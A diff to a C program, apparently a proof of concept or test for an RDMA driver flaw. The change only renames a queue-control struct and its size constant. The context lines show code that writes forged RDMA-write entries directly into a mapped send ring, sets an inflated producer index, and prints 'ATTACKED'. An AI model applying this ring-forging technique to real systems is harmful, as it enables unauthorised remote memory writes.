@@ -189,12 +189,12 @@ static void wait_go(void)
 
 static bool slot_is_wr0(const uint8_t *map, size_t size, uint32_t *prod)
 {
-	const struct mrc_queue_ctl *ctl = (const void *)map;
-	const struct mrc_send_wqe *w = (const void *)(map + MRC_QUEUE_CTL_SIZE);
+	const struct mrc_ring_idx *idx = (const void *)map;
+	const struct mrc_send_wqe *w = (const void *)(map + MRC_RING_IDX_SIZE);
 
-	if (size < MRC_QUEUE_CTL_SIZE + sizeof(*w))
+	if (size < MRC_RING_IDX_SIZE + sizeof(*w))
 		return false;
-	*prod = __atomic_load_n(&ctl->prod, __ATOMIC_ACQUIRE);
+	*prod = __atomic_load_n(&idx->prod, __ATOMIC_ACQUIRE);
 	return w->wr_id == WR0_ID && w->opcode == MRC_WQE_RDMA_WRITE &&
 	       *prod == 1;
 }
@@ -282,7 +282,7 @@ int main(int argc, char **argv)
 	struct ibv_send_wr wr, *bad;
 	struct ibv_qp_attr qattr;
 	struct side a = {}, b = {};
-	struct mrc_queue_ctl *ctl;
+	struct mrc_ring_idx *idx;
 	struct ibv_sge sge;
 	uint64_t dst;
 	uint8_t *ring;
@@ -338,13 +338,13 @@ int main(int argc, char **argv)
 	/* The slot size the kernel granted: the header and the inline room. */
 	es = qattr.cap.max_inline_data + sizeof(struct mrc_send_wqe);
 	ring = find_ring();
-	ctl = (struct mrc_queue_ctl *)ring;
+	idx = (struct mrc_ring_idx *)ring;
 	for (i = 1; i < NUM_SLOTS; i++)
-		put_write(ring + MRC_QUEUE_CTL_SIZE + i * es, ZERO_ID + i,
+		put_write(ring + MRC_RING_IDX_SIZE + i * es, ZERO_ID + i,
 			  dst + ZERO_OFF, b.mr->rkey, a.mr, 0);
-	put_write(ring + MRC_QUEUE_CTL_SIZE, TAIL_ID, dst + TAIL_OFF,
+	put_write(ring + MRC_RING_IDX_SIZE, TAIL_ID, dst + TAIL_OFF,
 		  b.mr->rkey, a.mr, TAIL_LEN);
-	__atomic_store_n(&ctl->prod, NUM_SLOTS + 1, __ATOMIC_RELEASE);
+	__atomic_store_n(&idx->prod, NUM_SLOTS + 1, __ATOMIC_RELEASE);
 	printf("ATTACKED\n");
 	wait_go();
 
